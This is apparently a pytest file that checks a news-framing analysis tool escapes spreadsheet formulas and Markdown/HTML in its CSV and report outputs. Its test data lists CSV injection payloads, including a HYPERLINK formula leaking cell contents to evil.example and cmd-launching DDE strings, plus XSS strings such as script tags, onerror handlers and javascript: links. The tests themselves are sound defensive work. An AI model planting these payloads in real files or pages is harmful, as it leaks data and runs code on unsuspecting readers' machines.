"""What framing writes cannot be turned against its reader (issue 21).

Hostile strings go in through every field a stranger controls (id, title, outlet, author, text,
students' names and answers) and come out of every CSV and Markdown file: read as a
spreadsheet reads CSV, no cell begins a formula unless it is a number; parsed with a CommonMark
parser, report.md holds no raw HTML and no link or image made from input.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from framing.cli import main
from framing.output import FORMULA_CHARS, csv_cell, dumps, md_code, md_text

markdown_it = pytest.importorskip("markdown_it")

#: Spreadsheet formulas (the issue's and OWASP's), Markdown and HTML that must stay text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =2*3",
]
HTML = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "x` <img src=y onerror=alert(3)> ``z",
    "[click](javascript:alert(4))",
    "![pic](http://evil.example/p.png)",
    "<a href='javascript:alert(5)'>a</a>",
    "<!-- hidden --><details open ontoggle=alert(6)>",
    "&lt;b&gt;entity&lt;/b&gt;",
    "- list\n# heading\n> quote\n1. one",
    "| a | b |\n| --- | --- |",
]
HOSTILE = FORMULAS + HTML


def _corpus(folder: Path) -> Path:
    """Four articles from two outlets whose every field is hostile."""
    body = ("The minister said the summit was undoubtedly a historic milestone for win-win "
            "cooperation. Critics warned that the loans may burden smaller economies with debt. "
            "Officials claimed the railway would open soon, although analysts were cautious. "
            "Perhaps it might fail; it seems the costs may possibly rise.")
    rows = []
    for k in range(4):
        a, b = HOSTILE[k % len(HOSTILE)], HOSTILE[(k * 5 + 3) % len(HOSTILE)]
        rows.append({
            "id": f"{FORMULAS[k]}`{HTML[k]}",
            "title": f"{HTML[(k + 1) % len(HTML)]} {a}" if k % 2 else a,
            "outlet": FORMULAS[k % 2] if k < 2 else HTML[k],
            "author": b,
            "published": "2025-06-17",
            "text": f"{a}\n\n{body} {b}\n\n{FORMULAS[(k + 2) % len(FORMULAS)]} {body}",
        })
    path = folder / "hostile.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _spreadsheet_cells(path: Path):
    with open(path, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            yield from row


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ".").rstrip("%"))
    except ValueError:
        return False
    return True


def _assert_no_formula(path: Path) -> int:
    cells = 0
    for cell in _spreadsheet_cells(path):
        cells += 1
        # a spreadsheet may trim spaces and line breaks before it looks for a formula
        first = cell.lstrip(" \n")[:1]
        assert first not in FORMULA_CHARS or _is_number(cell), (path.name, cell)
    return cells


def _md_tokens(text: str):
    md = markdown_it.MarkdownIt("commonmark").enable("table")
    for token in md.parse(text):
        yield token
        yield from token.children or []


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """Every CSV and Markdown file the CLI writes for the hostile corpus."""
    out = tmp_path_factory.mktemp("hostile")
    corpus = _corpus(out)
    first_id = json.loads(corpus.read_text(encoding="utf-8").splitlines()[0])["id"]
    common = ["--jobs", "1"]
    assert main(["score", str(corpus), *common, "-o", str(out / "scores.csv")]) == 0
    assert main(["ingest", str(corpus), "--explain", "-o", str(out / "ingest.csv")]) == 0
    assert main(["topics", "gaps", str(corpus), "--all", "--topic", "china-central-asia",
                 "--format", "csv",
                 "-o", str(out / "gaps.csv")]) == 0
    # --topic: without one no topic matches these texts, and the profile chart of a corpus
    # with no criticism metric at all fails (issue 17, charts)
    assert main(["report", str(corpus), *common, "--no-parquet", "--title", HTML[2],
                 "--dimension", "promotional,hedging,attribution,criticism",
                 "--topic", "china-central-asia",
                 "-o", str(out / "report")]) == 0
    assert main(["worksheet", str(corpus), "--id", first_id, "-o", str(out / "ws")]) == 0
    key = json.loads((out / "ws" / "key.json").read_text(encoding="utf-8"))
    sentence = key["items"][0]["sentence"] if key["items"] else 1
    answers = out / "answers.csv"
    with open(answers, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["student", "sentence", "category", "phrase"])
        for k, bad in enumerate(HOSTILE):
            writer.writerow([bad, sentence, "hedge", bad])
            writer.writerow([f"student {k}", sentence, "booster", bad])
    assert main(["grade", str(out / "ws" / "key.json"), str(answers),
                 "-o", str(out / "grades")]) in (0, 1)
    return out


def test_every_csv_opens_in_a_spreadsheet_as_data(written):
    files = [written / "scores.csv", written / "ingest.csv", written / "gaps.csv",
             *sorted((written / "report").glob("*.csv")),
             *sorted((written / "grades").glob("*.csv"))]
    names = {p.name for p in files}
    assert {"articles.csv", "evidence.csv", "outlets.csv", "reprints.csv", "grades.csv",
            "items.csv", "overflagged.csv", "agreement.csv"} <= names
    for path in files:
        assert _assert_no_formula(path) > 0, path
    # the formulas are still there to read, behind the apostrophe
    scores = (written / "scores.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in scores and "'+cmd|" in scores
    grades = (written / "grades" / "grades.csv").read_text(encoding="utf-8")
    assert "'@SUM(1+1)" in grades


def test_negative_numbers_stay_numbers(written):
    with open(written / "scores.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    balances = [r["hedging_certainty_balance"] for r in rows]
    assert any(b.startswith("-") for b in balances)
    assert all(_is_number(b) for b in balances if b)


def test_csv_raw_keeps_the_bytes(tmp_path):
    corpus = _corpus(tmp_path)
    out = tmp_path / "raw.csv"
    assert main(["score", str(corpus), "--jobs", "1", "--dimension", "promotional",
                 "--csv-raw", "-o", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    records = [json.loads(line) for line in corpus.read_text(encoding="utf-8").splitlines()]
    assert [r["title"] for r in rows] == [r["title"] for r in records]
    assert [r["id"] for r in rows] == [r["id"] for r in records]


def test_report_markdown_has_no_raw_html_or_links_from_input(written):
    text = (written / "report" / "report.md").read_text(encoding="utf-8")
    tokens = list(_md_tokens(text))
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    charts = {p.name for p in (written / "report").glob("chart-*.png")}
    for t in tokens:
        if t.type == "link_open":
            pytest.fail(f"a link in report.md: {t.attrs}")
        if t.type == "image":
            assert t.attrs["src"] in charts
    # input shows as the text it is: the ids whole in their code spans, titles as text
    records = [json.loads(line) for line in
               (written / "hostile.jsonl").read_text(encoding="utf-8").splitlines()]
    codes = {t.content for t in tokens if t.type == "code_inline"}
    assert {" ".join(r["id"].split()) for r in records} <= codes
    shown = "".join(t.content for t in tokens if t.type == "text")
    assert HTML[2] in shown and HTML[3] in shown and HTML[4] in shown
    headings = [t for t in tokens if t.type == "heading_open"]
    assert all(h.tag in ("h1", "h2", "h3") for h in headings)


@pytest.mark.parametrize("value", HOSTILE + ["plain words", "", "`", "a``b", "1. x", "-1.5"])
def test_md_text_and_md_code_render_as_the_text_itself(value):
    flat = " ".join(value.split())
    tokens = list(_md_tokens(f"before {md_text(value)} after {md_code(value)} end\n"))
    assert not [t for t in tokens if t.type in ("html_block", "html_inline", "link_open")]
    shown = "".join(t.content for t in tokens if t.type == "text")
    assert shown.startswith(f"before {flat} after")
    assert [t.content for t in tokens if t.type == "code_inline"] == [flat or " "]


def test_md_text_at_a_line_start_starts_no_block():
    for value in ("- item", "+ item", "* item", "1. one", "7) seven", "# title", "> quote",
                  "---", "===", "    indented"):
        tokens = list(_md_tokens(f"{md_text(value)}\n"))
        assert [t.type for t in tokens if t.nesting == 1] == ["paragraph_open"], value


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1 555", "'+1 555"), ("-", "'-"), ("@x", "'@x"), ("\t=x", "'\t=x"),
    ("\r=x", "'\n=x"), (" =x", "' =x"), ("-1.5", "-1.5"), ("+3", "+3"), ("-2e5", "-2e5"),
    ("12%", "12%"), (-4.0, -4.0), (7, 7), (None, ""), ("plain", "plain"),
    ("a\ud800b", "a\ufffdb"), ([1, "=x"], '[1, "=x"]'),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_csv_cell_raw_keeps_text_but_repairs_surrogates():
    assert csv_cell("=1+1", raw=True) == "=1+1"
    assert csv_cell("x\udc00", raw=True) == "x\ufffd"


def test_dumps_writes_strict_json_utf8():
    record = {"a": float("nan"), "b": [float("inf"), {"c": float("-inf")}], "d": "x\ud800y",
              "\ud83d\ude00": "pair", "e": -1.5}
    text = dumps(record)
    text.encode("utf-8")
    back = json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    assert back == {"a": None, "b": [None, {"c": None}], "d": "x\ufffdy", "\U0001F600": "pair",
                    "e": -1.5}


def test_a_carriage_return_cannot_start_a_row_with_a_formula(tmp_path):
    from framing.output import RowWriter

    out = tmp_path / "x.csv"
    with open(out, "w", encoding="utf-8", newline="") as fh:
        writer = RowWriter(fh, "csv")
        writer.write({"id": "a", "title": "ok\r=1+1", "note": "\r\n@SUM(A1)"})
    cells = list(_spreadsheet_cells(out))
    assert "=1+1" not in cells and all(not c.lstrip(" \n").startswith(("=", "@")) for c in cells)
    with open(out, encoding="utf-8", newline="") as fh:
        assert len(list(csv.reader(fh))) == 2  # the header and one row, nothing split off

